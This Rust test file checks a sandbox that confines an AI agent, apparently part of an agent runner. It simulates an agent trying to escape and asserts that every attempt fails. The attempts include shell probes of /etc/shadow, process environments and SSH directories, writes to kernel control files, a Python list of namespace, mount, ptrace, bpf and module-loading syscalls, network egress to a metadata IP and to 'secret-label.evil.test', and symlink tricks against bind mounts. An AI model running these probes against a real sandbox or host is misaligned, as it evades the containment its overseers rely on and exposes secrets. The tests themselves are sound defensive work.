//! A captured agent looks for a way out of the real sandbox, by the kinds of the threat model:
//! files, processes, system calls, network.

mod kit;
#[macro_use]
#[path = "kit/on_each.rs"]
mod on_each;

use std::os::linux::net::SocketAddrExt as _;
use std::os::unix::net::SocketAddr;

use kit::{DONE, Machine, On, config, config_on, finish, step};
use nightshift_runner::sandbox::{Backend, Bind, Exit, Part, SandboxError, SandboxHost, Stdin};
use tokio::io::AsyncReadExt as _;

on_each_engine! {
    a_command_runs_in_the_tree_and_its_status_comes_back,
    a_command_that_does_not_exist_names_itself,
    input_is_closed_a_file_or_a_pipe,
    nothing_of_the_host_is_visible,
    the_system_and_the_control_directory_cannot_be_written,
    #[cfg(target_arch = "x86_64")]
    calls_that_serve_to_leave_are_refused_and_ordinary_ones_are_not,
    set_user_programs_and_new_namespaces_give_nothing,
    no_packet_leaves,
    a_link_left_where_something_is_bound_does_not_lead_outside,
    what_is_mounted_below_a_read_only_path_is_read_only_too,
    nothing_may_be_put_over_the_system,
    two_runners_do_not_share_a_data_directory,
}

async fn a_command_runs_in_the_tree_and_its_status_comes_back(on: On) {
    let machine = Machine::on(on).await;
    let ran = machine
        .sh("pwd; id -u; echo $HOME; echo x > made; exit 7")
        .await;
    assert_eq!(ran.exit, Ok(Exit::Exited { code: 7 }), "{ran:?}");
    let user = match (on, machine.host.support().identity) {
        (On::Bubblewrap, _) => 1000,
        (On::Container, Some(identity)) => identity,
        (On::Container, None) => nix::unistd::geteuid().as_raw(),
    };
    assert_ne!(user, 0);
    assert_eq!(ran.out, format!("/workspace\n{user}\n/home/agent\n"));
    let again = machine.sh("cat made; kill -9 $$").await;
    assert_eq!(again.exit, Ok(Exit::Signalled { signal: 9 }), "{again:?}");
    assert_eq!(again.out, "x\n");
}

async fn a_command_that_does_not_exist_names_itself(on: On) {
    let machine = Machine::on(on).await;
    let mut step = step("");
    step.command = vec!["no-such-agent".to_owned()];
    let ran = finish(machine.sandbox().spawn(&step).await.expect("a start")).await;
    let Err(SandboxError::Part { part, cause }) = ran.exit else {
        panic!("{ran:?}")
    };
    assert_eq!(part, Part::Command);
    assert!(cause.contains("no-such-agent"), "{cause}");
}

async fn input_is_closed_a_file_or_a_pipe(on: On) {
    let machine = Machine::on(on).await;
    assert_eq!(machine.sh("cat; echo end").await.out, "end\n");
    let prompt = std::path::Path::new("prompt.md");
    machine
        .run
        .write_control(prompt, b"do it\n", false)
        .expect("a prompt");
    let mut from_file = step("cat");
    from_file.stdin = Stdin::File("/nightshift/prompt.md".into());
    let ran = finish(machine.sandbox().spawn(&from_file).await.expect("a start")).await;
    assert_eq!(ran.out, "do it\n", "{ran:?}");
    let mut piped = step("read line; echo got $line");
    piped.stdin = Stdin::Pipe;
    let mut running = machine.sandbox().spawn(&piped).await.expect("a start");
    let mut stdin = running.stdin.take().expect("a pipe");
    tokio::io::AsyncWriteExt::write_all(&mut stdin, b"hello\n")
        .await
        .expect("written");
    assert_eq!(finish(running).await.out, "got hello\n");
}

async fn nothing_of_the_host_is_visible(on: On) {
    let machine = Machine::on(on).await;
    let secret = machine.dir.path().join("secret");
    std::fs::write(&secret, "CANARY-7361").expect("a file");
    let absent = match on {
        On::Bubblewrap => {
            "for f in /etc/shadow /sys /run /var /root /home/*/.ssh; do if test -e $f; then exit 1; fi; done # tidy-ok(local): no sandbox has it"
        }
        // Engines mount these whatever they are told; nothing is to be in them.
        On::Container => {
            "for f in /etc/shadow /sys/* /run/* /run/.* /var/* /root/* /home/*/.ssh; do case $f in */. | */..) continue;; esac; if test -e $f; then exit 1; fi; done; cat /etc/resolv.conf # tidy-ok(local): no sandbox has it"
        }
    };
    let script = format!(
        "{absent}
         cat {} /etc/passwd 2>/dev/null; env; cat /proc/*/environ /proc/*/cmdline | tr '\\0' '\\n';
         ls -l /proc/*/fd 2>/dev/null; ls / /etc; cat /proc/self/mountinfo; dmesg 2>/dev/null; cat /proc/kcore 2>/dev/null | head -c 9; true",
        secret.display(),
    );
    let ran = machine.sh(&script).await;
    assert_eq!(ran.exit, DONE, "{ran:?}");
    let mut hidden = vec!["CANARY-7361", "CARGO_", "root:$", "root:*"];
    // Engines put a file of this name there, which says nothing.
    let servers = std::fs::read_to_string("/etc/resolv.conf").unwrap_or_default();
    match on {
        On::Bubblewrap => hidden.push("resolv.conf"),
        On::Container => hidden.extend(servers.lines().filter(|line| !line.is_empty())),
    }
    for hidden in hidden {
        assert!(
            !ran.out.contains(hidden),
            "{hidden} is visible:\n{}",
            ran.out
        );
    }
    assert!(
        ran.out.contains("HOME=/home/agent"),
        "the canary's own search works"
    );
}

async fn the_system_and_the_control_directory_cannot_be_written(on: On) {
    let machine = Machine::on(on).await;
    let ran = machine
        .sh("for d in / /usr /usr/bin /etc /nightshift /nightshift/bin /nightshift/sockets /dev /proc/sys/kernel; do
               if touch $d/x 2>/dev/null; then echo wrote $d; fi; done
             for f in /proc/sys/kernel/core_pattern /proc/sysrq-trigger /proc/sys/kernel/hostname /nightshift/bin/nightshift /etc/passwd; do
               if echo x 2>/dev/null > $f; then echo wrote $f; fi; done; true")
        .await;
    assert_eq!((ran.exit.clone(), ran.out.as_str()), (DONE, ""), "{ran:?}");
}

/// Every call that serves to leave, with the answer that is expected.
const CALLS: &str = r#"
import ctypes, os, errno, socket, fcntl
libc = ctypes.CDLL(None, use_errno=True)
def call(name, number, *args):
    ctypes.set_errno(0)
    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) for a in args])
    code = ctypes.get_errno()
    if result != -1 or code not in (errno.EPERM, errno.ENOSYS, errno.EAFNOSUPPORT):
        print("open:", name, result, code)
buffer = ctypes.addressof(ctypes.create_string_buffer(4096))
for name, flag in [("user", 0x10000000), ("mount", 0x20000), ("pid", 0x20000000), ("net", 0x40000000),
                   ("ipc", 0x8000000), ("uts", 0x4000000), ("cgroup", 0x2000000), ("time", 0x80)]:
    call("unshare " + name, 272, flag)
    if name != "time":
        call("clone " + name, 56, flag | 17, 0, 0, 0, 0)
call("unshare user and more", 272, 0x10000000 | 0x200)
call("clone3", 435, buffer, 88)
call("setns", 308, 0, 0)
call("mount", 165, buffer, buffer, buffer, 0, 0)
call("umount2", 166, buffer, 0)
call("pivot_root", 155, buffer, buffer)
call("move_mount", 429, 0, buffer, 0, buffer, 0)
call("open_tree", 428, 0, buffer, 0)
call("fsopen", 430, buffer, 0)
call("ptrace", 101, 16, 1, 0, 0)
call("process_vm_readv", 310, 1, buffer, 1, buffer, 1, 0)
call("pidfd_getfd", 438, 0, 0, 0)
call("bpf", 321, 0, buffer, 128)
call("io_uring_setup", 425, 8, buffer)
call("io_uring_enter", 426, 0, 0, 0, 0, 0)
call("keyctl", 250, 0, -3, 0)
call("add_key", 248, buffer, buffer, 0, 0, -3)
call("request_key", 249, buffer, buffer, 0, 0)
call("userfaultfd", 323, 0)
call("perf_event_open", 298, buffer, 0, -1, -1, 0)
call("open_by_handle_at", 304, 0, buffer, 0)
call("init_module", 175, buffer, 0, buffer)
call("finit_module", 313, 0, buffer, 0)
call("kexec_load", 246, 0, 0, 0, 0)
call("syslog", 103, 3, buffer, 10)
call("x32 unshare", 0x40000000 + 272, 0x10000000)
call("x32 getpid", 0x40000000 + 39)
call("ioctl TIOCSTI", 16, 0, 0x5412, buffer)
call("ioctl TIOCSTI with high bits", 16, 0, 0x100005412, buffer)
call("socket vsock", 41, 40, 1, 0)
call("socket packet", 41, 17, 3, 0)
call("socket alg", 41, 38, 5, 0)
call("socket bluetooth", 41, 31, 3, 0)
call("raw inet", 41, 2, 3, 1)
pid = os.fork()
if pid == 0:
    os._exit(0)
os.waitpid(pid, 0)
import threading
t = threading.Thread(target=lambda: None); t.start(); t.join()
a, b = socket.socketpair(); a.send(b"x")
print("status:", [l.strip() for l in open("/proc/self/status") if l.startswith(("NoNewPrivs", "CapEff", "Seccomp:"))])
"#;

#[cfg(target_arch = "x86_64")]
async fn calls_that_serve_to_leave_are_refused_and_ordinary_ones_are_not(on: On) {
    let machine = Machine::on(on).await;
    let mut calls = step("");
    calls.command = ["/usr/bin/python3", "-c", CALLS]
        .map(str::to_owned)
        .to_vec();
    let ran = finish(machine.sandbox().spawn(&calls).await.expect("a start")).await;
    assert_eq!(ran.exit, DONE, "{ran:?}");
    assert_eq!(
        ran.out, "status: ['CapEff:\\t0000000000000000', 'NoNewPrivs:\\t1', 'Seccomp:\\t2']\n",
        "{ran:?}"
    );
}

async fn set_user_programs_and_new_namespaces_give_nothing(on: On) {
    let machine = Machine::on(on).await;
    let ran = machine
        .sh("unshare -Ur true && echo user namespace; su -c id root </dev/null 2>/dev/null && echo su;
             mount -t tmpfs x /tmp && echo mount; chroot / true 2>/dev/null && echo chroot; chown 0 /workspace && echo chown; true")
        .await;
    assert_eq!((ran.exit.clone(), ran.out.as_str()), (DONE, ""), "{ran:?}");
}

/// Each way out must fail by itself within two seconds.
const NETWORK: &str = r#"
import socket, time
def way(name, act):
    begin = time.monotonic()
    try:
        act(); print("open:", name)
    except OSError as error:
        pass
    if time.monotonic() - begin > 2: print("slow:", name)
def tcp(family, address):
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(5); s.connect(address)
def udp(family, address):
    s = socket.socket(family, socket.SOCK_DGRAM); s.sendto(b"x", address)
way("tcp", lambda: tcp(socket.AF_INET, ("192.0.2.1", 80)))
way("metadata", lambda: tcp(socket.AF_INET, ("169.254.169.254", 80)))
way("udp dns", lambda: udp(socket.AF_INET, ("8.8.8.8", 53)))
way("quic", lambda: udp(socket.AF_INET, ("192.0.2.1", 443)))
way("tcp6", lambda: tcp(socket.AF_INET6, ("2001:db8::1", 80)))
way("udp6", lambda: udp(socket.AF_INET6, ("2001:4860:4860::8888", 53)))
way("icmp", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
way("ping", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).sendto(b"x", ("192.0.2.1", 0)))
way("dns", lambda: socket.getaddrinfo("secret-label.evil.test", 80))
way("multicast", lambda: udp(socket.AF_INET, ("224.0.0.251", 5353)))
print("done")
"#;

async fn no_packet_leaves(on: On) {
    let machine = Machine::on(on).await;
    // An abstract socket of the host, such as a desktop's bus, is another namespace's.
    let name = SocketAddr::from_abstract_name(b"nightshift-test-abstract").expect("a name");
    let bound = std::os::unix::net::UnixListener::bind_addr(&name).expect("a socket");
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = listener.local_addr().expect("an address").port();
    let script = format!(
        "{NETWORK}\nway('host loopback', lambda: tcp(socket.AF_INET, ('127.0.0.1', {port})))
way('abstract', lambda: socket.socket(socket.AF_UNIX).connect('\\0nightshift-test-abstract'))"
    );
    let mut network = step("");
    network.command = ["/usr/bin/python3", "-c", &script]
        .map(str::to_owned)
        .to_vec();
    let ran = finish(machine.sandbox().spawn(&network).await.expect("a start")).await;
    assert_eq!(
        (ran.exit.clone(), ran.out.as_str()),
        (DONE, "done\n"),
        "{ran:?}"
    );
    drop((bound, listener));
}

async fn a_link_left_where_something_is_bound_does_not_lead_outside(on: On) {
    let mut machine = Machine::on(on).await;
    let outside = machine.dir.path().join("outside");
    std::fs::create_dir(&outside).expect("a directory");
    let planted = format!(
        "ln -s /oldroot{} /home/agent/.session; ln -s {} /home/agent/.other",
        outside.display(),
        outside.display()
    );
    assert_eq!(machine.sh(&planted).await.exit, DONE);
    let session = machine.dir.path().join("session");
    machine.host.shared_dir(&session).expect("a directory");
    machine.spec.writable.push(Bind {
        source: session.clone(),
        target: "/home/agent/.session/deep".into(),
    });
    let ran = machine.sh("echo kept > /home/agent/.session/deep/f").await;
    assert_eq!(ran.exit, DONE, "{ran:?}");
    assert!(session.join("f").exists());
    assert_eq!(std::fs::read_dir(&outside).expect("a directory").count(), 0);
}

/// A file system mounted for one test.
struct Mounted(std::path::PathBuf);

impl Drop for Mounted {
    fn drop(&mut self) {
        nix::mount::umount(&self.0).expect("unmounted");
    }
}

async fn what_is_mounted_below_a_read_only_path_is_read_only_too(on: On) {
    if !nix::unistd::geteuid().is_root() {
        // Only root can mount; an ordinary user's sandbox has the same mounts.
        return;
    }
    let mut machine = Machine::on(on).await;
    let tools = machine.dir.path().join("tools");
    let below = tools.join("below");
    std::fs::create_dir_all(&below).expect("directories");
    nix::mount::mount(
        Some("tmpfs"),
        &below,
        Some("tmpfs"),
        nix::mount::MsFlags::empty(),
        Some("mode=1777,size=1m"),
    )
    .expect("mounted");
    let _mounted = Mounted(below.clone());
    std::fs::write(below.join("tool"), "there").expect("a file");
    machine.spec.read_only.push(Bind {
        source: tools,
        target: "/opt/tools".into(),
    });
    let ran = machine
        .sh("cat /opt/tools/below/tool; touch /opt/tools/below/x 2>/dev/null && echo wrote; true")
        .await;
    assert_eq!(
        (ran.exit.clone(), ran.out.as_str()),
        (DONE, "there"),
        "{ran:?}"
    );
}

mod alone {
    /// Under the name by which tests of this engine are found.
    mod container {
        #[tokio::test(flavor = "multi_thread")]
        async fn the_engine_learns_nothing_of_a_command() {
            super::super::the_engine_learns_nothing_of_a_command().await;
        }

        #[tokio::test(flavor = "multi_thread")]
        async fn whoever_else_comes_to_the_door_is_sent_away() {
            super::super::whoever_else_comes_to_the_door_is_sent_away().await;
        }
    }
}

/// A process of this machine that is faster than the container gets no order, and none is carried out.
async fn whoever_else_comes_to_the_door_is_sent_away() {
    let machine = Machine::on(On::Container).await;
    let started = machine.sandbox().spawn(&step("echo ran")).await;
    let running = started.expect("a start");
    let sockets = std::fs::read_dir(machine.run.path().join("sockets")).expect("sockets");
    let door = sockets.flatten().next().expect("a door").path();
    let mut other = std::os::unix::net::UnixStream::connect(&door).expect("a connection");
    let ran = finish(running).await;
    let Err(SandboxError::Part { part, cause }) = &ran.exit else {
        panic!("{ran:?}")
    };
    assert_eq!((*part, ran.out.as_str()), (Part::Engine, ""));
    assert!(cause.contains("another process"), "{cause}");
    let mut got = Vec::new();
    std::io::Read::read_to_end(&mut other, &mut got).expect("an end");
    assert_eq!(got, b"");
    assert!(!door.exists());
}

/// Neither the command nor its variables nor its output are in what the engine keeps.
async fn the_engine_learns_nothing_of_a_command() {
    let on = On::Container;
    let machine = Machine::on(on).await;
    let mut told = step("echo CANARY-7362; echo $WORD >&2; sleep 30");
    told.env.push(("WORD".to_owned(), "CANARY-7363".to_owned()));
    let mut running = machine.sandbox().spawn(&told).await.expect("a start");
    let mut said = [0; 11];
    let stdout = running.stdout.as_mut().expect("output");
    stdout.read_exact(&mut said).await.expect("output");
    let known = kit::known_of(on, machine.dir.path()).await;
    assert!(known.contains("sandbox-init"), "{known}");
    assert!(!known.contains("CANARY"), "{known}");
    running.kill().await.expect("an end");
}

async fn nothing_may_be_put_over_the_system(on: On) {
    let mut machine = Machine::on(on).await;
    machine.spec.read_only.push(Bind {
        source: "/usr".into(),
        target: "/etc/x".into(),
    });
    let refused = machine.sandbox().spawn(&step("true")).await;
    assert_eq!(refused.err(), Some(SandboxError::Place("/etc/x".into())));
}

#[tokio::test]
async fn without_bubblewrap_no_machine_opens() {
    let dir = tempfile::tempdir().expect("a directory");
    let mut without = config(dir.path());
    without.backend = Backend::Bubblewrap {
        program: "/nonexistent/bwrap".into(),
    };
    let error = SandboxHost::open(without)
        .await
        .expect_err("no bubblewrap, no sandbox");
    let text = error.to_string();
    assert!(
        text.contains("bubblewrap") && text.contains("install the package"),
        "{text}"
    );
    // A program that is no sandbox is found out by the probe.
    let mut broken = config(dir.path());
    broken.backend = Backend::Bubblewrap {
        program: "/bin/true".into(),
    };
    assert!(SandboxHost::open(broken).await.is_err());
}

#[tokio::test]
async fn an_engine_that_is_not_there_is_named_with_the_way_out() {
    let dir = tempfile::tempdir().expect("a directory");
    let socket = dir.path().join("engine.sock");
    let open = || async {
        let mut without = config(dir.path());
        without.backend = Backend::Container {
            socket: socket.clone(),
        };
        let error = SandboxHost::open(without).await;
        error.expect_err("no engine, no sandbox").to_string()
    };
    let missing = open().await;
    assert!(
        missing.contains("engine.sock: there is no socket") && missing.contains("[sandbox]"),
        "{missing}"
    );
    drop(std::os::unix::net::UnixListener::bind(&socket).expect("a socket"));
    let silent = open().await;
    assert!(silent.contains("nobody listens there"), "{silent}");
}

/// An engine that answers as one without root does.
fn without_root(socket: &std::path::Path) {
    use std::io::{Read as _, Write as _};
    let listener = std::os::unix::net::UnixListener::bind(socket).expect("a socket");
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let mut asked = [0; 4096];
            let count = stream.read(&mut asked).unwrap_or(0);
            let asked = String::from_utf8_lossy(&asked[..count]).into_owned();
            let answer = match asked.contains("/info") {
                true => {
                    r#"{"SecurityOptions":["name=seccomp,profile=default","name=rootless"],"MemoryLimit":true,"PidsLimit":true}"#
                }
                false => {
                    r#"{"Version":"9.9.9","ApiVersion":"1.41","Components":[{"Name":"Podman Engine","Version":"9.9.9"}]}"#
                }
            };
            write!(
                stream,
                "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{answer}",
                answer.len()
            )
            .ok();
        }
    });
}

#[tokio::test(flavor = "multi_thread")]
async fn an_engine_without_root_is_refused() {
    let dir = tempfile::tempdir().expect("a directory");
    let socket = dir.path().join("engine.sock");
    without_root(&socket);
    let mut config = config(dir.path());
    config.backend = Backend::Container { socket };
    let error = SandboxHost::open(config).await;
    let error = error.expect_err("no root, no sandbox").to_string();
    assert!(error.contains("Podman runs without root"), "{error}");
}

async fn two_runners_do_not_share_a_data_directory(on: On) {
    let machine = Machine::on(on).await;
    let second = SandboxHost::open(config_on(on, machine.dir.path())).await;
    assert!(
        matches!(second, Err(SandboxError::DataInUse(_))),
        "{second:?}"
    );
}

#[test]
fn all_of_this_holds_for_an_ordinary_user() {
    kit::again_as_an_ordinary_user("all_of_this_holds_for_an_ordinary_user");
}
